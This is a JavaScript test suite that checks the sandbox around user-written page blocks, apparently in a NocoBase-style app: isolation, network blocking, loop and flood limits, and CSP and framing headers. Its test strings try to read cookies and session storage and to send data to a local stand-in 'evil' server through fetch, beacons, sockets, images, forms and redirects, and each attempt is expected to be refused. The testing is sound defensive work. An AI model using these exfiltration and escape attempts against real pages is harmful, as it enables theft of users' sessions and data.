// What a block cannot do: reach the page around it, speak with strangers, keep the page busy, break it.

import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';

import { blocks, launch, visitor } from './browser.js';
import { home, pageOf, signIn, stranger, until } from './world.js';

let browser;
let admin;
let evil;
before(async () => {
  browser = await launch();
  admin = await signIn(home.url, home.email, home.password);
  evil = await stranger({ '/x.js': ['text/javascript', 'globalThis.loaded = 1'], '/x.css': ['text/css', 'body{}'] });
});
after(async () => {
  await browser?.close();
  await evil?.close();
});

async function opened(...codes) {
  const { address } = await pageOf(home.url, admin, ...codes);
  return visitor(browser, admin.token, address);
}
const drawn = (page, at = 0) => blocks(page)[at]?.evaluate(() => document.querySelector('#block')?.innerText).catch(() => undefined);
const text = (page) => page.evaluate(() => document.body.innerText);
const says = (page, words) => until(words, async () => (await text(page)).includes(words));
const close = (page) => page.browserContext().close();

/** What each of these attempts comes to, as the frame tells it. */
async function attempts(all) {
  const body = Object.entries(all).map(([name, code]) => `try { out[${JSON.stringify(name)}] = String(await (async () => { ${code} })()) } catch (error) { out[${JSON.stringify(name)}] = 'refused' }`);
  const page = await opened(`const out = {}; ${body.join('\n')}; ctx.element.textContent = JSON.stringify(out)`);
  const seen = await until('what came of it', async () => {
    const words = await drawn(page);
    return words?.startsWith('{') ? JSON.parse(words) : null;
  });
  return { page, seen };
}

describe('a block', () => {
  it('reaches neither the page, nor cookies, nor storage', async () => {
    const { page, seen } = await attempts({
      origin: 'return self.origin',
      parent: 'return parent.document.title',
      top: 'return top.location.href',
      frameElement: 'return window.frameElement',
      navigateTop: "top.location = 'about:blank'; return top.closed",
      cookie: 'return document.cookie',
      realCookie: "return Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document)",
      setCookie: "document.cookie = 'a=b'; return document.cookie",
      localStorage: 'return localStorage.length',
      sessionStorage: "return sessionStorage.getItem('keyward.session')",
      indexedDB: "return await new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes('opened'); r.onerror = no })",
      caches: "return await caches.open('x')",
      worker: "return new Worker(URL.createObjectURL(new Blob(['1']))).toString() && await new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = () => yes('ran'); w.onerror = no })",
      serviceWorker: "return await navigator.serviceWorker.register('/nocobase/app/main.js')",
      popup: "return window.open('about:blank')",
      opener: 'return window.opener',
      alert: "return confirm('x')",
      rtc: 'return typeof RTCPeerConnection',
      history: 'return history.back()',
      apiWithoutKey: `return (await fetch('${home.url}/api/auth:check', { credentials: 'include' })).status`,
    });
    assert.deepEqual(seen, {
      origin: 'null', parent: 'refused', top: 'refused', frameElement: 'null', navigateTop: 'refused', cookie: '', realCookie: 'refused', setCookie: '',
      localStorage: 'refused', sessionStorage: 'refused', indexedDB: 'refused', caches: 'refused', worker: 'refused', serviceWorker: 'refused',
      popup: 'null', opener: 'null', alert: 'false', rtc: 'undefined', history: 'refused', apiWithoutKey: seen.apiWithoutKey,
    });
    // Whichever it is, nobody was signed in by it.
    assert.ok(['refused', '401'].includes(seen.apiWithoutKey), seen.apiWithoutKey);
    assert.ok(page.url().startsWith(`${home.url}/nocobase/`));
    await close(page);
  });

  it('speaks with no stranger, in any way', async () => {
    const { url } = evil;
    const { page, seen } = await attempts({
      fetch: `return (await fetch('${url}/fetch')).status`,
      noCors: `return (await fetch('${url}/nocors', { mode: 'no-cors' })).type`,
      request: `return (await ctx.request('${url}/request')).status`,
      xhr: `return await new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open('GET', '${url}/xhr'); x.send() })`,
      beacon: `return navigator.sendBeacon('${url}/beacon', 'x')`,
      socket: `return await new Promise((yes, no) => { const w = new WebSocket('${url.replace('http', 'ws')}/socket'); w.onopen = yes; w.onerror = no })`,
      events: `return await new Promise((yes, no) => { const e = new EventSource('${url}/events'); e.onopen = yes; e.onerror = no })`,
      requireAsync: `return await ctx.requireAsync('${url}/x.js')`,
      css: `return await ctx.requireAsync('${url}/x.css')`,
      importAsync: `return await ctx.importAsync('${url}/x.js')`,
      bareImport: `return await import('${url}/x.js')`,
      dataImport: "return (await import('data:text/javascript,export default 1')).default",
      blobScript: "return await new Promise((yes, no) => { const s = document.createElement('script'); s.src = URL.createObjectURL(new Blob([''])); s.onload = () => yes('ran'); s.onerror = no; document.head.append(s) })",
      inlineScript: "const s = document.createElement('script'); s.textContent = 'globalThis.inline = 1'; document.head.append(s); return globalThis.inline",
      handler: "const d = document.createElement('div'); d.setAttribute('onclick', 'globalThis.handled = 1'); d.click(); return globalThis.handled",
      image: `return await new Promise((yes, no) => { const i = new Image(); i.onload = () => yes('loaded'); i.onerror = no; i.src = '${url}/image.png' })`,
      style: `const d = document.createElement('div'); d.style.backgroundImage = 'url(${url}/background.png)'; document.body.append(d); getComputedStyle(d).color`,
      font: `return await new FontFace('x', 'url(${url}/font.woff)').load()`,
      prefetch: `for (const rel of ['prefetch', 'preload', 'modulepreload', 'icon', 'manifest', 'prerender']) { const l = document.createElement('link'); l.rel = rel; l.href = '${url}/' + rel; if (rel === 'preload') l.as = 'image'; document.head.append(l) }`,
      speculation: `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify({ prefetch: [{ urls: ['${url}/speculation'] }] }); document.head.append(s)`,
      frame: `const f = document.createElement('iframe'); f.src = '${url}/frame'; document.body.append(f)`,
      object: `const o = document.createElement('object'); o.data = '${url}/object'; document.body.append(o)`,
      media: `const v = document.createElement('video'); v.src = '${url}/video'; document.body.append(v)`,
      form: `const f = document.createElement('form'); f.action = '${url}/form'; document.body.append(f); f.submit()`,
      ping: `const a = document.createElement('a'); a.href = '#x'; a.ping = '${url}/ping'; document.body.append(a); a.click()`,
      popup: `window.open('${url}/popup')`,
      nested: "const f = document.createElement('iframe'); f.srcdoc = '<p>x'; document.body.append(f); return f.contentDocument ?? 'refused'",
    });
    for (const name of ['fetch', 'noCors', 'request', 'xhr', 'socket', 'events', 'requireAsync', 'css', 'importAsync', 'bareImport', 'dataImport', 'blobScript', 'image', 'font', 'nested']) {
      assert.equal(seen[name], 'refused', `${name}: ${seen[name]}`);
    }
    assert.equal(seen.inlineScript, 'undefined');
    assert.equal(seen.handler, 'undefined');
    await close(page);
    const leaving = await opened(`location.href = '${url}/left?secret'; await new Promise(() => {})`, `const a = document.createElement('a'); a.href = '${url}/clicked'; document.body.append(a); a.click()`,
      `const a = document.createElement('a'); a.href = '${url}/download'; a.download = 'x'; document.body.append(a); a.click()`,
      `const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=${url}/refreshed'; document.head.append(m)`, "ctx.render('still here')");
    await until('the last block', async () => (await Promise.all([0, 1, 2, 3, 4].map((at) => drawn(leaving, at)))).includes('still here'));
    // Long enough for a request that should not be made.
    await new Promise((resolve) => setTimeout(resolve, 1500));
    await close(leaving);
    assert.deepEqual(evil.calls, []);
  });

  it('may leave its frame for nothing of this server either', async () => {
    const page = await opened("location.href = '/nocobase/block/frame.html?x'");
    await says(page, 'left its frame');
    await close(page);
    const docs = await opened("location.href = '/nocobase/'");
    await says(docs, 'left its frame');
    await close(docs);
  });

  it('that sends messages without end is stopped, and the page goes on', async () => {
    const page = await opened(
      'for (let i = 0; i < 100000; i += 1) ctx.message.info(`flood ${i}`, 0)',
      'for (let i = 0; i < 100000; i += 1) parent.postMessage(i, "*")',
      "ctx.render('a neighbour')",
    );
    // On a slow machine their five seconds are over before enough of it is heard.
    await until('both are stopped', async () => (await text(page)).match(/(sent too many messages|took longer than 5 seconds) and was stopped/g)?.length === 2);
    assert.ok((await page.$$('.toast')).length <= 5);
    await until('the neighbour', async () => (await drawn(page, 0)) === 'a neighbour');
    await page.click('a[href="#/collections"]');
    await page.waitForFunction(() => location.hash === '#/collections');
    await close(page);
  });

  it('that shows many messages shows few of them at a time', async () => {
    const page = await opened("for (let i = 0; i < 60; i += 1) ctx.message.info(`note ${i}`, 0); ctx.render('done')");
    await until('it is done', async () => (await drawn(page)) === 'done');
    assert.ok((await page.$$('.toast')).length <= 5);
    await close(page);
  });

  it('that sends something too large is stopped', async () => {
    const page = await opened("await ctx.request({ url: 'todos:create', method: 'post', data: { title: 'x'.repeat(2 << 20) } })");
    await says(page, 'too large for the page');
    await close(page);
  });

  it('that loops without end is stopped, and the page goes on meanwhile', async () => {
    const page = await opened('for (;;) {}');
    await page.waitForSelector('.pg-frame');
    // While it loops: the page is not in the same process.
    await page.click('.account summary');
    assert.ok(await page.$('.account[open]'));
    await says(page, 'took longer than 5 seconds');
    await page.click('a[href="#/collections"]');
    await page.waitForFunction(() => location.hash === '#/collections');
    await close(page);
  });

  it('that loops after its code has ended is stopped too', async () => {
    const page = await opened("ctx.render('begun'); setTimeout(() => { for (;;) {} }, 200)");
    await says(page, 'did not answer any more');
    await close(page);
  });

  it('that waits for ever is stopped', async () => {
    const page = await opened('await new Promise(() => {})');
    await says(page, 'took longer than 5 seconds');
    assert.equal(blocks(page).length, 0);
    await close(page);
  });

  it('that fails says so, and its neighbours run', async () => {
    const page = await opened("throw new Error('on purpose')", 'this is no code (', "setTimeout(() => { throw new Error('later') }); ctx.render('ran')", "Promise.reject(new Error('nobody waits')); ctx.render('a neighbour')", '} catch (e) {} ; {');
    for (const words of ['Error: on purpose', 'SyntaxError', 'Error: later', 'Error: nobody waits']) await says(page, words);
    assert.equal(await drawn(page, 3), 'a neighbour');
    assert.ok(page.said.some((line) => line.includes('on purpose')), 'it is logged');
    await close(page);
  });

  it('does not run where the address says so', async () => {
    const { id } = await pageOf(home.url, admin, "ctx.render('ran')");
    for (const address of [`${home.url}/nocobase/?skipRunJs=true#/pages/${id}`, `${home.url}/nocobase/#/pages/${id}?skipRunJs=true`]) {
      const page = await visitor(browser, admin.token, address);
      await says(page, 'Scripts are off');
      assert.equal(blocks(page).length, 0);
      await close(page);
    }
  });
});

describe('the document blocks run in', () => {
  it('is of no origin and does nothing when it is opened by itself', async () => {
    const page = await (await browser.createBrowserContext()).newPage();
    const answer = await page.goto(`${home.url}/nocobase/block/frame.html`);
    const policy = answer.headers()['content-security-policy'];
    assert.match(policy, /sandbox allow-scripts$/);
    assert.match(policy, /default-src 'none'/);
    // Whoever holds a nonce may load from anywhere, and imports inherit one.
    assert.ok(!policy.includes('nonce'), policy);
    assert.equal(await page.evaluate(() => self.origin), 'null');
    await page.evaluate(() => window.postMessage('{"code":"document.title = 1"}', '*', [new MessageChannel().port1]));
    assert.equal(await page.title(), 'Block');
    await page.browserContext().close();
  });

  it('cannot be framed by others, nor can the page', async () => {
    const outside = await stranger({ '/': ['text/html', `<iframe src="${home.url}/nocobase/block/frame.html"></iframe><iframe src="${home.url}/nocobase/"></iframe>`] });
    const page = await (await browser.createBrowserContext()).newPage();
    await page.goto(outside.url);
    assert.ok(page.frames().slice(1).every((frame) => frame.url().startsWith('chrome-error:')), page.frames().map((frame) => frame.url()).join());
    await page.browserContext().close();
    await outside.close();
  });
});
